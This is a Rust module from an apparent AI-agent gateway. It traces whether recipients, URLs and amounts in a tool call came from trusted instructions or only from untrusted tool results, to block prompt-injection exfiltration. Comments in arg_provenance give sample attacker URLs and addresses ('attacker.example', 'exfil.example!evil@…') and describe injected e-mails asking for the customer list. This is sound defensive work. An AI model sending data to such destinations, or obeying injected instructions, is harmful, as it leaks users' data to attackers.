//! Argument provenance: for a call's recipient arguments, whether each value appeared in the
//! run's trusted instructions (system and user messages through the LLM proxy, the task an
//! operator opened the run with) or only in untrusted content (tool results) — or nowhere.
//! Policies see it as `context.provenance`; the matching rules are `warden_policy::provenance`.
//!
//! Values are kept as hashes of (run, value), per run, in the store: a run's values cannot be
//! compared with another run's, and the table holds no value in clear.

use std::collections::BTreeSet;

use serde_json::Value;
use sha2::{Digest, Sha256};
use warden_policy::provenance::{
    ArgProvenance, MAX_TOKENS_PER_TEXT, arg_tokens, asks_for, field_tokens, field_values, internal,
    short_name, standalone_number, standalone_numbers, tokens, traced, value_tokens,
};
use warden_policy::recipients::Internal;
use warden_types::{Action, ErrorCode, Tool, ToolKind, Trace};

use crate::{Gateway, Refusal};

/// The stored form of `token` in `run`.
fn hash(run: &str, token: &str) -> String {
    let mut h = Sha256::new();
    h.update(run.as_bytes());
    h.update([0x1f]);
    h.update(token.as_bytes());
    h.finalize()
        .iter()
        .take(16)
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn hashes(run: &str, tokens: BTreeSet<String>) -> Vec<String> {
    tokens
        .iter()
        .take(MAX_TOKENS_PER_TEXT)
        .map(|t| hash(run, t))
        .collect()
}

/// The hashed values `texts` name, in `run`.
pub(crate) fn text_values<'a>(run: &str, texts: impl IntoIterator<Item = &'a str>) -> Vec<String> {
    let mut all = BTreeSet::new();
    for t in texts {
        all.extend(tokens(t));
        if all.len() >= MAX_TOKENS_PER_TEXT {
            break;
        }
    }
    // Numbers in words are amounts or ids someone gave ("refund 19 EUR", "issue #412").
    let numbers: Vec<String> = all
        .iter()
        .map(|t| t.strip_prefix('#').unwrap_or(t))
        .filter_map(|t| standalone_number(&Value::String(t.to_owned())))
        .map(|n| number_key(&n))
        .collect();
    let mut out = hashes(run, all);
    out.extend(numbers.iter().map(|k| hash(run, k)));
    out
}

/// The hashed names `texts` (trusted instructions) write as words — "the auth gateway" for
/// `groupany/auth-gateway` — asked about only for the short names of the organisation's values.
pub(crate) fn phrase_values<'a>(
    run: &str,
    texts: impl IntoIterator<Item = &'a str>,
) -> Vec<String> {
    let mut phrases = BTreeSet::new();
    for t in texts {
        word_phrases(t, &mut phrases);
        if phrases.len() >= MAX_TOKENS_PER_TEXT {
            break;
        }
    }
    phrases.iter().map(|p| hash(run, &phrase_key(p))).collect()
}

/// Where a standalone number is kept: in a namespace no token reaches (a control character).
fn number_key(n: &str) -> String {
    format!("\u{1f}#{n}")
}

/// Where a name written as words is kept (`auth-gateway` for "the auth gateway"): in its own
/// namespace, asked about only for the short names of the organisation's own values, so two
/// words of the user's never vouch for an attacker's `fix-login` branch.
fn phrase_key(p: &str) -> String {
    format!("\u{1f}phrase\u{1f}{p}")
}

/// Two or three words in a row, lower-cased and joined by `-`, into `out` (at most
/// [`MAX_TOKENS_PER_TEXT`]): "Auth Gateway" → `auth-gateway`; "the data pipeline repo" →
/// `data-pipeline`, `data-pipeline-repo`, …
fn word_phrases(text: &str, out: &mut BTreeSet<String>) {
    let words: Vec<String> = text
        .split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty() && w.len() <= 40)
        .take(4 * MAX_TOKENS_PER_TEXT)
        .map(str::to_lowercase)
        .collect();
    for n in 2..=3 {
        for w in words.windows(n) {
            if out.len() >= MAX_TOKENS_PER_TEXT {
                return;
            }
            out.insert(w.join("-"));
        }
    }
}

/// A short name's form as words joined by `-` (`auth_gateway`, `auth.gateway`, `auth-gateway`
/// → `auth-gateway`), when it has more than one word.
fn phrase_of(short: &str) -> Option<String> {
    let words: Vec<&str> = short
        .split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .collect();
    (2..=3)
        .contains(&words.len())
        .then(|| words.join("-").to_lowercase())
}

/// The stored form of "the run's instructions ask for `tool`": in a namespace no token can
/// reach, kept with the trusted values.
fn requested_hash(run: &str, tool: &str) -> String {
    hash(run, &format!("\u{1f}requested\u{1f}{tool}"))
}

/// The stored form of "the run's instructions refer to `tool`'s argument `arg`" (by one of
/// its `delegable` words): in a namespace no token can reach, kept with the trusted values.
fn mention_hash(run: &str, tool: &str, arg: &str) -> String {
    hash(run, &format!("\u{1f}mentions\u{1f}{tool}\u{1f}{arg}"))
}

/// The hashed requests `texts` (trusted instructions) make of `tools`: one for each tool whose
/// `requested_by` words or phrases one of the texts uses, and one for each delegable argument
/// one of the texts refers to.
pub(crate) fn requested_values<'a>(
    run: &str,
    texts: &[&str],
    tools: impl IntoIterator<Item = &'a Tool>,
) -> Vec<String> {
    let mut out = Vec::new();
    for t in tools {
        if texts.iter().any(|text| asks_for(text, &t.requested_by)) {
            out.push(requested_hash(run, &t.name));
        }
        for (arg, words) in &t.delegable {
            if texts.iter().any(|text| asks_for(text, words)) {
                out.push(mention_hash(run, &t.name, arg));
            }
        }
    }
    out
}

/// The stored form of `token` as a value of a document the user pointed at (see
/// [`result_values`]): in a namespace no token can reach, kept with the trusted values.
fn pointed_hash(run: &str, token: &str) -> String {
    hash(run, &format!("\u{1f}pointed\u{1f}{token}"))
}

/// The stored form of `token` as the sender of a message with a sign of injection: in a
/// namespace no token can reach, kept with the trusted values.
fn tainted_hash(run: &str, token: &str) -> String {
    hash(run, &format!("\u{1f}tainted\u{1f}{token}"))
}

/// An empty string or list names nobody.
fn is_blank(v: &Value) -> bool {
    match v {
        Value::String(s) => s.trim().is_empty(),
        Value::Array(a) => a.iter().all(is_blank),
        _ => false,
    }
}

/// The stored form of `token` as the sender of something the run read: in a namespace no
/// token can reach (tokens never hold a control character), kept with the trusted values.
fn sender_hash(run: &str, token: &str) -> String {
    hash(run, &format!("\u{1f}sender\u{1f}{token}"))
}

/// The hashed values a tool result names, in `run`: `(trusted, untrusted)`. Values under the
/// tool's `trusted_fields` are trusted (a system of record's own data) when `vouched` (the
/// read's own keys were trusted: see [`Gateway::read_keys`]); the rest is untrusted. Values
/// under its `sender_fields` are also recorded as senders — when the inspection found a sign of
/// injection in the result, only `clean_senders`, those of the messages that show none on their
/// own (a message to whoever planted it is not a reply).
/// When `pointed` (a read of a document
/// the user pointed at, in which the inspection found no injection), its untrusted identifiers
/// — not its addresses, links or IBANs: a document never supplies where data or money goes —
/// under its `document_fields` are also recorded as the document's, for
/// `context.provenance.delegated` (a read without `document_fields` is no document a user
/// points at).
pub(crate) fn result_values(
    run: &str,
    tool: &Tool,
    result: &Value,
    vouched: bool,
    pointed: bool,
    clean_senders: Option<&crate::inspect::Senders>,
) -> (Vec<String>, Vec<String>) {
    let trusted = if tool.trusted_fields.is_empty() || !vouched {
        BTreeSet::new()
    } else {
        field_tokens(result, &tool.trusted_fields)
    };
    let untrusted: BTreeSet<String> = value_tokens(result)
        .into_iter()
        .filter(|t| !trusted.contains(t))
        .collect();
    // Standalone numbers (amounts), in their own namespace: trusted under vouched trusted
    // fields, untrusted elsewhere.
    let trusted_numbers: BTreeSet<String> = if tool.trusted_fields.is_empty() || !vouched {
        BTreeSet::new()
    } else {
        field_values(result, &tool.trusted_fields)
            .into_iter()
            .flat_map(standalone_numbers)
            .collect()
    };
    let untrusted_numbers: Vec<String> = standalone_numbers(result)
        .into_iter()
        .filter(|n| !trusted_numbers.contains(n))
        .map(|n| hash(run, &number_key(&n)))
        .collect();
    let mut pointed_values = Vec::new();
    if pointed {
        // Only the document itself (`document_fields`: an issue's title and body), not what
        // others added to it (its comments).
        let document = field_tokens(result, &tool.document_fields);
        let document_numbers: BTreeSet<String> = field_values(result, &tool.document_fields)
            .into_iter()
            .flat_map(standalone_numbers)
            .collect();
        pointed_values.extend(
            document
                .iter()
                .filter(|t| untrusted.contains(*t) && !traced(t, Trace::Reach))
                .take(MAX_TOKENS_PER_TEXT)
                .map(|t| pointed_hash(run, t)),
        );
        pointed_values.extend(
            document_numbers
                .iter()
                .filter(|n| !trusted_numbers.contains(*n))
                .take(MAX_TOKENS_PER_TEXT)
                .map(|n| pointed_hash(run, &number_key(n))),
        );
    }
    let mut trusted = hashes(run, trusted);
    trusted.extend(trusted_numbers.iter().map(|n| hash(run, &number_key(n))));
    trusted.extend(pointed_values);
    if !tool.sender_fields.is_empty() {
        let senders = match clean_senders {
            Some(s) => s.clean.difference(&s.tainted).cloned().collect(),
            None => field_tokens(result, &tool.sender_fields),
        };
        trusted.extend(
            senders
                .iter()
                .take(MAX_TOKENS_PER_TEXT)
                .map(|t| sender_hash(run, t)),
        );
        // Whoever sent an injection is never replied to in this run, even after a clean
        // message of theirs.
        if let Some(s) = clean_senders {
            trusted.extend(
                s.tainted
                    .iter()
                    .take(MAX_TOKENS_PER_TEXT)
                    .map(|t| tainted_hash(run, t)),
            );
        }
    }
    let mut untrusted = hashes(run, untrusted);
    untrusted.extend(untrusted_numbers);
    (trusted, untrusted)
}

/// What a reply may not carry besides its recipients: personal data other than names, and
/// secrets.
fn reply_may_not_carry(kind: &str) -> bool {
    kind.starts_with("secret") || (kind.starts_with("pii.") && kind != "pii.person_name")
}

impl Gateway {
    /// Whether a read's keys — its traced arguments: the customer, the ticket, the issue —
    /// all came from the user's instructions or another vouched record (`None`: it names no
    /// key). A store error trusts nothing.
    pub(crate) async fn read_keys(
        &self,
        tool: &Tool,
        action: &Action,
        org: &Internal,
    ) -> Option<bool> {
        let named = tool
            .recipients
            .keys()
            .chain(tool.provenance.keys())
            .any(|k| {
                action
                    .arguments
                    .get(k)
                    .is_some_and(|v| !v.is_null() && !is_blank(v))
            });
        if !named {
            return None;
        }
        Some(match self.arg_provenance(tool, action, org, &[]).await {
            Ok(p) => p.untrusted.is_empty() && p.unknown.is_empty(),
            Err(_) => false,
        })
    }

    /// Where the values of `action`'s recipient arguments and traced arguments came from, in
    /// its run. The organisation's own addresses, URLs and counterparties are not asked about.
    /// `findings` are the inspection's findings in the arguments (`args/PATH: KIND`), for
    /// `reply`. A store error refuses the action (fail closed).
    pub(crate) async fn arg_provenance(
        &self,
        tool: &Tool,
        action: &Action,
        org: &Internal,
        findings: &[String],
    ) -> Result<ArgProvenance, Refusal> {
        let mut out = ArgProvenance::default();
        // A recipient is traced by its addresses (an e-mail) or its whole values (an IBAN, a
        // counterparty of another channel), and must name at least one; a traced argument only
        // by the values its trace picks (the links in a body may be none). Every other
        // argument of a call that is not a read is traced for where data or money can go: a
        // URL (`https://attacker.example/p.png?d=<the customer list>`), an e-mail address
        // ("write to billing@attacker.example to confirm your card"), an IBAN.
        let mut traced_args: Vec<(&String, Trace, bool)> = tool
            .recipients
            .iter()
            .map(|(arg, channel)| {
                let trace = match channel.as_str() {
                    warden_policy::recipients::EMAIL => Trace::Email,
                    _ => Trace::Any,
                };
                (arg, trace, true)
            })
            .chain(tool.provenance.iter().map(|(arg, t)| {
                // A call that is not a read traces at least where data or money can go.
                let t = match t {
                    Trace::Any => Trace::Any,
                    _ if tool.kind != ToolKind::Read => Trace::Reach,
                    other => *other,
                };
                (arg, t, t == Trace::Any)
            }))
            .collect();
        if tool.kind != ToolKind::Read
            && let Some(args) = action.arguments.as_object()
        {
            for arg in args.keys() {
                if !tool.recipients.contains_key(arg) && !tool.provenance.contains_key(arg) {
                    traced_args.push((arg, Trace::Reach, false));
                }
            }
        }
        let mut asked: Vec<(String, String)> = Vec::new();
        // For each value of `asked`, its stored form as a value of a document the user pointed
        // at.
        let mut pointed_keys: Vec<String> = Vec::new();
        // For a value of the organisation's namespaces, the short name the user may have given
        // it (`webshop` for `groupany/webshop`): (index into `asked`, hash).
        let mut short_asked: Vec<(usize, String)> = Vec::new();
        // For a recipient's values, also whether each was the sender of something read: (index
        // into `asked`, hash).
        let mut senders_asked: Vec<(usize, String)> = Vec::new();
        // And whether each was the sender of a message with a sign of injection.
        let mut tainted_asked: Vec<(usize, String)> = Vec::new();
        for (arg, trace, must_name) in traced_args {
            let Some(v) = action.arguments.get(arg) else {
                continue;
            };
            // A number argument (an amount) is asked for as a standalone number.
            if trace == Trace::Any
                && let Some(n) = standalone_number(v)
            {
                asked.push((arg.clone(), hash(&action.session, &number_key(&n))));
                pointed_keys.push(pointed_hash(&action.session, &number_key(&n)));
                continue;
            }
            let toks: Vec<String> = arg_tokens(v)
                .into_iter()
                .filter(|t| traced(t, trace))
                .collect();
            if toks.is_empty() && must_name && !v.is_null() && !is_blank(v) {
                // A value Warden cannot read as any token is nowhere to be found.
                out.unknown.insert(arg.clone());
            }
            let before = asked.len();
            for t in toks {
                if !internal(&t, org) {
                    asked.push((arg.clone(), hash(&action.session, &t)));
                    pointed_keys.push(pointed_hash(&action.session, &t));
                    if let Some(short) = short_name(&t, org) {
                        short_asked.push((asked.len() - 1, hash(&action.session, short)));
                        if let Some(p) = phrase_of(short) {
                            short_asked
                                .push((asked.len() - 1, hash(&action.session, &phrase_key(&p))));
                        }
                    }
                    if tool.recipients.contains_key(arg) {
                        senders_asked.push((asked.len() - 1, sender_hash(&action.session, &t)));
                        tainted_asked.push((asked.len() - 1, tainted_hash(&action.session, &t)));
                    }
                }
            }
            // A recipient that is external by `context.recipient.external`'s reading but names
            // no outside value here (`exfil.example!evil@groupany.example` cuts into an
            // internal-looking address and a domain) is nowhere to be found.
            if asked.len() == before
                && let Some(channel) = tool.recipients.get(arg)
            {
                let one = std::collections::BTreeMap::from([(arg.clone(), channel.clone())]);
                if warden_policy::recipients::any_external(&one, &action.arguments, org)
                    == Some(true)
                {
                    out.unknown.insert(arg.clone());
                }
            }
        }
        // Whether the run's instructions asked for this tool, looked up with the values.
        let requested =
            (!tool.requested_by.is_empty()).then(|| requested_hash(&action.session, &tool.name));
        // And whether they refer to each delegable argument asked about.
        let mentions: Vec<(String, String)> = tool
            .delegable
            .keys()
            .filter(|arg| asked.iter().any(|(a, _)| a == *arg))
            .map(|arg| (arg.clone(), mention_hash(&action.session, &tool.name, arg)))
            .collect();
        if asked.is_empty() && requested.is_none() {
            out.delegated = out.unknown.is_empty();
            return Ok(out);
        }
        let n = asked.len();
        let n_senders = senders_asked.len();
        let expected = n
            + n_senders
            + pointed_keys.len()
            + usize::from(requested.is_some())
            + mentions.len()
            + short_asked.len()
            + tainted_asked.len();
        let seen = self
            .store
            .provenance_of(
                &action.agent,
                &action.session,
                asked
                    .iter()
                    .map(|(_, h)| h.clone())
                    .chain(senders_asked.iter().map(|(_, h)| h.clone()))
                    .chain(pointed_keys.iter().cloned())
                    .chain(requested.iter().cloned())
                    .chain(mentions.iter().map(|(_, h)| h.clone()))
                    .chain(short_asked.iter().map(|(_, h)| h.clone()))
                    .chain(tainted_asked.iter().map(|(_, h)| h.clone()))
                    .collect(),
            )
            .await
            .map_err(|e| {
                tracing::error!(error = %e, "cannot read argument provenance; denying");
                Refusal::new(
                    ErrorCode::Denied,
                    "argument provenance is unavailable; denied to be safe",
                )
            })?;
        // One answer per value asked, or nothing is known (a short answer would skip values).
        if seen.len() != expected {
            tracing::error!(
                asked = expected,
                answered = seen.len(),
                "the store answered a provenance lookup short; denying"
            );
            return Err(Refusal::new(
                ErrorCode::Denied,
                "argument provenance is unavailable; denied to be safe",
            ));
        }
        out.requested = requested.is_some()
            && seen
                .get(n + n_senders + pointed_keys.len())
                .is_some_and(|(trusted, _)| *trusted);
        let n_requested = usize::from(requested.is_some());
        let mentioned: BTreeSet<&String> = mentions
            .iter()
            .zip(
                seen.iter()
                    .skip(n + n_senders + pointed_keys.len() + n_requested),
            )
            .filter(|(_, (trusted, _))| *trusted)
            .map(|((arg, _), _)| arg)
            .collect();
        let mut by_short_name = vec![false; n];
        for ((i, _), (trusted, _)) in short_asked.iter().zip(
            seen.iter()
                .skip(n + n_senders + pointed_keys.len() + n_requested + mentions.len()),
        ) {
            if let Some(s) = by_short_name.get_mut(*i) {
                *s |= *trusted;
            }
        }
        let pointed: Vec<bool> = seen
            .iter()
            .skip(n + n_senders)
            .take(pointed_keys.len())
            .map(|(trusted, _)| *trusted)
            .collect();
        let mut sender = vec![false; n];
        for ((i, _), (trusted, _)) in senders_asked.iter().zip(seen.iter().skip(n)) {
            if let Some(s) = sender.get_mut(*i) {
                *s = *trusted;
            }
        }
        let tainted_from = expected - tainted_asked.len();
        for ((i, _), (tainted, _)) in tainted_asked.iter().zip(seen.iter().skip(tainted_from)) {
            if *tainted && let Some(s) = sender.get_mut(*i) {
                *s = false;
            }
        }
        // A reply: every value not trusted is a sender, and no argument was unknown before the
        // lookup.
        let mut reply = out.unknown.is_empty() && out.untrusted.is_empty();
        // Delegated: every value not trusted is an identifier of a document the user pointed
        // at, in an argument the tool lets such a document supply, and no argument was unknown
        // before the lookup.
        let mut delegated = out.unknown.is_empty();
        // One reply answers one writer: a second sender in `cc` ("put me in copy when you
        // answer her", written by someone else in the same inbox) is not part of it.
        let mut senders = BTreeSet::new();
        for (((((arg, h), (trusted, untrusted)), is_sender), in_pointed), short) in asked
            .into_iter()
            .zip(seen)
            .zip(sender)
            .zip(pointed)
            .zip(by_short_name)
        {
            if trusted || short {
                continue;
            }
            delegated &= in_pointed && mentioned.contains(&arg);
            if is_sender {
                senders.insert(h);
            }
            reply &= is_sender;
            if untrusted {
                out.untrusted.insert(arg);
            } else {
                out.unknown.insert(arg);
            }
        }
        // Nor may the reply carry personal data (names aside) or a secret outside its
        // recipients: the customer list an injected e-mail asks for is not a reply.
        let carries = findings.iter().any(|f| {
            let Some((path, kind)) = f.strip_prefix("args/").and_then(|f| f.split_once(": "))
            else {
                return true;
            };
            let arg = path.split('/').next().unwrap_or_default();
            !tool.recipients.contains_key(arg) && reply_may_not_carry(kind)
        });
        out.reply = reply && senders.len() == 1 && !carries;
        out.delegated = delegated;
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::{MAX_TOKENS_PER_TEXT, hash, phrase_of, word_phrases};

    /// Names as words: two or three words in a row, however the name joins them; one word or
    /// four are no such name; a long text gives a bounded number.
    #[test]
    fn names_written_as_words_are_phrases() {
        let mut out = BTreeSet::new();
        word_phrases("Run CI for the Auth Gateway, please.", &mut out);
        assert!(
            out.contains("auth-gateway") && out.contains("the-auth-gateway"),
            "{out:?}"
        );
        assert!(!out.contains("gateway-please-run"), "{out:?}");
        for short in ["auth-gateway", "auth_gateway", "Auth.Gateway"] {
            assert_eq!(phrase_of(short).as_deref(), Some("auth-gateway"), "{short}");
        }
        assert_eq!(phrase_of("webshop"), None);
        assert_eq!(phrase_of("a-b-c-d"), None);
        let mut many = BTreeSet::new();
        word_phrases(&"lorem ipsum dolor sit amet ".repeat(100_000), &mut many);
        assert!(many.len() <= MAX_TOKENS_PER_TEXT);
        let mut distinct = BTreeSet::new();
        let text: String = (0..50_000).map(|i| format!("w{i} ")).collect();
        word_phrases(&text, &mut distinct);
        assert_eq!(distinct.len(), MAX_TOKENS_PER_TEXT);
    }

    #[test]
    fn hashes_are_per_run() {
        assert_eq!(
            hash("run_a", "ada@example.net"),
            hash("run_a", "ada@example.net")
        );
        assert_ne!(
            hash("run_a", "ada@example.net"),
            hash("run_b", "ada@example.net")
        );
        assert_eq!(hash("r", "x").len(), 32);
    }
}
